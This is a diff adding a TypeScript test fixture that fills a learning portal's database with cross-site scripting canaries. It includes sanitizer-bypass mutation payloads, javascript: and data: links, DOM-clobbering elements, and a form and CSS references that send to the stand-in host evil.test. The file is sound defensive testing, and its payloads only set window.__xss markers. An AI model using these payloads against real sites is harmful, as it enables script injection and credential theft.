@@ -1,0 +1,233 @@
+import { sql } from "kysely";
+import { aContent, aPage } from "#app/test/builders.ts";
+import type { TestApp } from "#app/test/app.ts";
+import type { Content, RichNode } from "#features/courses/content.ts";
+import { startSession } from "#features/auth/server/sessions.ts";
+
+/** What must never run, each a try of its own (security.md §2, Canary). The word xss shows where one arrived as text. */
+export const canaries = [
+  `"><img src=x onerror=window.__xss=1>`,
+  `</script><script>window.__xss=2</script>`,
+  `</title></textarea></style><svg/onload=window.__xss=3>`,
+  `' onmouseover=window.__xss=4 x='`,
+  `javascript:window.__xss=5`,
+  `{{constructor.constructor('window.__xss=6')()}}\${window.__xss=7}`,
+  `<iframe srcdoc="<script>parent.__xss=8</script>">`,
+] as const;
+
+/** All of them in one text, cut to what the column holds. */
+export const hostile = (limit: number) => canaries.join(" ").slice(0, limit);
+
+/** HTML that sanitizers let through in the past: mutation, clobbering, namespaces, styles, forms (security.md 38, 39, 44). */
+export const hostileHtml = [
+  `<p>kept</p>`,
+  ...canaries,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__xss=9&gt;">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=window.__xss=10>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=11>`,
+  `<noscript><p title="</noscript><img src=x onerror=window.__xss=12>">`,
+  `<template><script>window.__xss=13</script></template>`,
+  `<a href="javascript:window.__xss=14">a</a><a href="java&#10;script:window.__xss=15">b</a><a href="&#1;javascript:window.__xss=16">c</a>`,
+  `<a href="data:text/html,<script>parent.__xss=17</script>">d</a><a href="vbscript:x">e</a><a href="//evil.test/">f</a>`,
+  `<a href="https://ok.test/" target="_blank" onclick="window.__xss=18" style="position:fixed;inset:0" id="stoa-environment" name="getElementById">g</a>`,
+  `<form id="root" action="https://evil.test/"><input name="password"><button formaction="javascript:window.__xss=19">go</button></form>`,
+  `<img name="getElementById"><img id="cookie" src=x onerror=window.__xss=20><a id="defaultView"></a><a id="defaultView" name="fetch"></a>`,
+  `<style>*{background:url(https://evil.test/)}</style><link rel=stylesheet href=https://evil.test/x.css><base href=https://evil.test/>`,
+  `<meta http-equiv=refresh content="0;url=https://evil.test/"><object data="javascript:window.__xss=21"></object><embed src=https://evil.test/>`,
+  `<iframe src="javascript:parent.__xss=22"></iframe><video><source onerror=window.__xss=23></video><details open ontoggle=window.__xss=24>`,
+  `<b${"<b>".repeat(2000)}deep`,
+  `<p>last</p>`,
+].join("\n");
+
+const text = (value: string, href?: string): RichNode => ({
+  type: "text",
+  text: value,
+  ...(href !== undefined && { marks: [{ type: "link", attrs: { href, target: "_blank", onclick: "window.__xss=30" } }] }),
+});
+const links = [
+  "javascript:window.__xss=31",
+  "JaVaScRiPt:window.__xss=32",
+  " javascript:window.__xss=33",
+  "data:text/html,<script>parent.__xss=34</script>",
+  "java\tscript:window.__xss=35",
+  "vbscript:x",
+  "//evil.test/",
+];
+
+/** A lesson with a canary in every text an author can write. */
+function hostileContent(fileId: number): Content {
+  const words = hostile(400);
+  const doc: RichNode = {
+    type: "doc",
+    attrs: { class: words },
+    content: [
+      { type: "heading", attrs: { level: `2 onload=window.__xss=36`, id: "root" }, content: [text(words)] },
+      { type: "paragraph", attrs: { style: "background:url(https://evil.test/)" }, content: links.map((href) => text(`${href} `, href)) },
+      { type: "callout", attrs: { tone: words }, content: [{ type: "paragraph", content: [text(words)] }] },
+      {
+        type: "orderedList",
+        attrs: { start: words },
+        content: [{ type: "listItem", content: [{ type: "paragraph", content: [text(words)] }] }],
+      },
+    ],
+  };
+  return aContent([
+    aPage("texts", { title: words, blocks: [{ id: "t", kind: "text", doc }] }),
+    aPage("media", {
+      title: words,
+      blocks: [
+        { id: "i", kind: "image", fileId, alt: words, caption: words, width: 10, height: 10 },
+        { id: "f", kind: "file", fileId, name: words, bytes: 3, description: words },
+        {
+          id: "v",
+          kind: "video",
+          title: words,
+          sources: [{ fileId, mediaType: `video/webm"><img src=x onerror=window.__xss=37>` }],
+          posterFileId: fileId,
+          seconds: 10,
+          captions: [{ fileId, language: words, label: words }],
+          transcript: [{ from: 0, to: 5, text: words }],
+        },
+      ],
+    }),
+    aPage("quiz", {
+      title: words,
+      rule: { viewed: false, quiz: "submitted" },
+      blocks: [
+        {
+          id: "z",
+          kind: "quiz",
+          title: words,
+          passPercent: 50,
+          submissions: null,
+          questions: [
+            {
+              id: "q1",
+              kind: "single",
+              stem: words,
+              points: 1,
+              options: [
+                { id: "a", text: words },
+                { id: "b", text: words },
+              ],
+              correct: ["a"],
+              feedback: words,
+            },
+            { id: "q2", kind: "multiple", stem: words, points: 1, options: [{ id: "a", text: words }], correct: ["a"], feedback: words },
+          ],
+        },
+      ],
+    }),
+  ]);
+}
+
+export interface HostilePortal {
+  /** Learns everything there is, and is an author and an admin, so that every screen opens. */
+  readonly person: { id: number; email: string };
+  readonly token: string;
+  readonly courseId: number;
+  readonly completedCourseId: number;
+  readonly scormCourseId: number;
+  readonly categoryId: number;
+}
+
+/** Fills portal A, reached as a.localhost, with canaries in every text field that exists. */
+export async function seedHostile(app: TestApp): Promise<HostilePortal> {
+  const portal_id = app.portal("a").id;
+  const person = await app.aPerson("a", { givenName: hostile(80), familyName: canaries[1], isAuthor: true, isAdmin: true });
+  const category = await app.aCategory("a", { name: hostile(120) });
+  await app.aCategory("a", { name: canaries[0], parentId: category.id });
+  const fileId = await app.databases.inSystem("seed canaries", async (db) => {
+    const file = await db
+      .insertInto("files")
+      .values({ portal_id, storage_key: "none", name: hostile(240), media_type: "image/png", bytes: 3, sha256: "x" })
+      .returning("id")
+      .executeTakeFirstOrThrow();
+    return file.id;
+  });
+  const content = hostileContent(fileId);
+  const course = await app.aCourse("a", {
+    title: hostile(200),
+    summary: hostile(2000),
+    tags: [...canaries],
+    content,
+    categoryIds: [category.id],
+  });
+  const completed = await app.aCourse("a", { title: canaries[1], summary: hostile(2000), content, categoryIds: [category.id] });
+  const scorm = await app.aCourse("a", { typeId: 3, title: hostile(200), summary: hostile(2000) });
+  const token = await app.databases.inSystem("seed canaries", async (db) => {
+    await sql`insert into portal_hosts (host, portal_id) values ('a.localhost', ${portal_id})`.execute(db);
+    await sql`update portals set name = ${hostile(120)}, announcement_html = ${hostileHtml}, revision = revision + 1,
+      logo_file = ${canaries[4]}, mobile_logo_file = ${canaries[0]},
+      colors = ${JSON.stringify(Object.fromEntries(["topBarBgColor", "navBgColor", "navColor", "navBgImage", "navBgRepeat", "logoBgPosition", "footerBarColor"].map((name, index) => [name, [`#fff;}</style>${canaries[0]}`, `url(https://evil.test/)`, `red}*{background:url(//evil.test)}`][index % 3]])))}::jsonb,
+      settings = ${JSON.stringify({ showAnnouncementAtStart: "true", showStudentWidgets: "true", catalogLabel: canaries[0], termsUrl: canaries[4] })}::jsonb,
+      contact = ${JSON.stringify({ email: canaries[0], phone: `tel:${canaries[3]}`, address: hostile(500), copyright: hostileHtml, privacy: hostileHtml })}::jsonb
+      where id = ${portal_id}`.execute(db);
+    await sql`insert into system_settings (key, value) values ('announcement', ${JSON.stringify({ html: hostileHtml })}::jsonb)
+      on conflict (key) do update set value = excluded.value`.execute(db);
+    for (const { id } of [course, completed, scorm]) {
+      await sql`update courses set outcomes = ${[...canaries]}, cover_file_id = ${fileId}, created_by = ${person.id} where portal_id = ${portal_id} and id = ${id}`.execute(
+        db,
+      );
+      await sql`update course_versions set note = ${hostile(400)}, published_by = ${person.id} where portal_id = ${portal_id} and course_id = ${id}`.execute(
+        db,
+      );
+    }
+    const item = {
+      identifier: canaries[0],
+      title: hostile(200),
+      isVisible: true,
+      scoKey: "sco",
+      href: canaries[4],
+      isSco: true,
+      children: [],
+    };
+    await sql`insert into scorm_packages (portal_id, course_id, standard, edition, title, storage_key, entry_count, bytes, source_file_id, manifest, report, uploaded_by)
+      values (${portal_id}, ${scorm.id}, '1.2', '1.2', ${hostile(200)}, 'none', 1, 1, ${fileId},
+        ${JSON.stringify({ standard: "1.2", edition: "1.2", title: hostile(200), organization: { identifier: canaries[0], title: hostile(200), items: [item] } })}::jsonb,
+        ${JSON.stringify({ findings: [{ level: "warning", code: "x", message: hostile(300), fix: hostile(300), path: canaries[0] }], entryCount: 1, bytes: 1, standard: "1.2", edition: "1.2", scoCount: 1 })}::jsonb,
+        ${person.id})`.execute(db);
+    for (const { id, versionId } of [course, completed, scorm].map((one) => one)) {
+      const { rows } = await sql<{
+        id: number;
+      }>`insert into enrolments (portal_id, course_id, user_id) values (${portal_id}, ${id}, ${person.id}) returning id`.execute(db);
+      const enrolment = rows[0]?.id ?? 0;
+      await sql`insert into enrolment_causes (portal_id, enrolment_id, kind, reference, created_by, due_at)
+        values (${portal_id}, ${enrolment}, 'person', ${hostile(400)}, ${person.id}, now() + interval '2 days')`.execute(db);
+      if (id === course.id) continue;
+      const attempt = await sql<{ id: number }>`insert into attempts (portal_id, enrolment_id, course_id, user_id, version_id, number)
+        values (${portal_id}, ${enrolment}, ${id}, ${person.id}, ${versionId}, 1) returning id`.execute(db);
+      const attemptId = attempt.rows[0]?.id ?? 0;
+      await sql`insert into attempt_states (portal_id, attempt_id, epoch) values (${portal_id}, ${attemptId}, 1)`.execute(db);
+      if (id === completed.id)
+        await sql`insert into completions (portal_id, attempt_id, course_id, user_id, version_id, source) values (${portal_id}, ${attemptId}, ${id}, ${person.id}, ${versionId}, 'rule')`.execute(
+          db,
+        );
+      if (id !== scorm.id) continue;
+      // What a package reported, call by call (security.md 47).
+      await sql`insert into scorm_calls (portal_id, attempt_id, sco_key, session, calls) values (${portal_id}, ${attemptId}, 'sco', 'session-1',
+        ${JSON.stringify([{ at: 1, call: canaries[0].slice(0, 40), element: hostile(255), value: hostile(1000), result: hostile(1000), error: "<b>1</b>" }])}::jsonb)`.execute(
+        db,
+      );
+    }
+    await sql`select set_config('app.portal_id', ${String(portal_id)}, true)`.execute(db);
+    // Another browser of the same person, whose name for itself is an attack (security.md 46).
+    await startSession(db, {
+      userId: person.id,
+      userAgent: hostile(300),
+      ip: canaries[0],
+      requestId: "test",
+      maxHours: 1,
+      action: "signed_in",
+    });
+    return startSession(db, {
+      userId: person.id,
+      userAgent: "Mozilla/5.0",
+      ip: "127.0.0.1",
+      requestId: "test",
+      maxHours: 1,
+      action: "signed_in",
+    });
+  });
+  return { person, token, courseId: course.id, completedCourseId: completed.id, scormCourseId: scorm.id, categoryId: category.id };
+}
